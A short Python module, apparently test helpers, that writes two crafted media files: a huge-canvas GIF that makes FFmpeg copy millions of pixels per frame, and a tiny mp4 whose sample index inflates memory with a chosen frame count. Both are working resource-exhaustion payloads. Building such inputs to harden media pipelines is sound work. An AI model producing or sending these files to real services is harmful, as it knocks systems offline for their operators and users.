"""Small files that ask for much, as anyone can write them."""

from __future__ import annotations

import struct
from pathlib import Path


def endless_gif(path: Path, frames: int) -> Path:
    """One pixel changes from frame to frame, but FFmpeg copies all 32 million each time."""
    head = b"GIF89a" + struct.pack("<HH", 8000, 4000) + b"\x80\0\0" + b"\0\0\0\xff\xff\xff"
    control = b"\x21\xf9\x04\x04\x0a\0\0\0"
    pixel = b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\0" + b"\x02\x02\x44\x01\0"
    path.write_bytes(head + (control + pixel) * frames + b"\x3b")
    return path


def index_bomb(path: Path, frames: int) -> Path:
    """An mp4 of 800 bytes whose index, once unpacked, takes 50 bytes of memory for each frame."""
    entry = struct.pack(">6xH16xHHII4xH32xHh", 1, 64, 48, 0x480000, 0x480000, 1, 24, -1)
    matrix = struct.pack(">9i", 1 << 16, 0, 0, 0, 1 << 16, 0, 0, 0, 1 << 30)
    table = _box(
        b"stbl",
        _full(b"stsd", struct.pack(">I", 1), _box(b"mp4v", entry)),
        _full(b"stts", struct.pack(">III", 1, frames, 1)),
        _full(b"stsc", struct.pack(">IIII", 1, 1, frames, 1)),
        _full(b"stsz", struct.pack(">II", 1, frames)),
        _full(b"stco", struct.pack(">II", 1, 48)),
    )
    links = _box(b"dinf", _full(b"dref", struct.pack(">I", 1), _full(b"url ")))
    media = _box(
        b"mdia",
        _full(b"mdhd", struct.pack(">IIIIHH", 0, 0, 1000, frames, 0x55C4, 0)),
        _full(b"hdlr", struct.pack(">4x4s12x2s", b"vide", b"v\0")),
        _box(b"minf", _full(b"vmhd", bytes(8)), links, table),
    )
    track = _full(
        b"tkhd",
        struct.pack(">IIIII16x", 0, 0, 1, 0, 1000),
        matrix,
        struct.pack(">II", 64 << 16, 48 << 16),
    )
    movie = _full(
        b"mvhd",
        struct.pack(">IIIIIH10x", 0, 0, 1000, 1000, 1 << 16, 256),
        matrix,
        struct.pack(">24xI", 2),
    )
    index = _box(b"moov", movie, _box(b"trak", track, media))
    head = _box(b"ftyp", b"isom\0\0\2\0isom") + _box(b"mdat", bytes(200))
    path.write_bytes(head + index)
    return path


def _box(kind: bytes, *content: bytes) -> bytes:
    body = b"".join(content)
    return struct.pack(">I", 8 + len(body)) + kind + body


def _full(kind: bytes, *content: bytes) -> bytes:
    return _box(kind, bytes(4), *content)
